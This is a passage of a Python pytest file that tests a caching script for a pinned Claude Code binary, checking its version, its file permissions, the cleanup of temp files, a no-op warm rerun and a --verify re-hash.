def test_real_binary_from_cache(real_cache: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(_binary.ENV_CACHE_DIR, str(real_cache))
    info = binary_info()
    assert info.source == "cache"
    assert info.version == pinned_version()
    assert info.path == _real_binary(real_cache)
    assert is_verified()
    assert stat.S_IMODE(info.path.stat().st_mode) == 0o755
    assert _leftovers(info.path.parent) == []  # npm's temp dir is gone


def test_real_script_warm_rerun_is_a_fast_noop(real_cache: Path) -> None:
    binary = _real_binary(real_cache)
    mtime = binary.stat().st_mtime_ns
    proc = _run_script(cache=real_cache)  # no npm: the marker says it is verified
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.startswith(f"verified copy of Claude Code {pinned_version()} ({current_platform()}) already at ")
    assert binary.stat().st_mtime_ns == mtime
    proc = _run_script("--print-path", cache=real_cache)
    assert proc.returncode == 0 and proc.stdout == f"{binary}\n"
    assert "already at" in proc.stderr


def test_real_script_verify_rehashes(real_cache: Path) -> None:
    proc = _run_script("--verify", cache=real_cache)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.startswith(f"re-hashed and verified Claude Code {pinned_version()}")
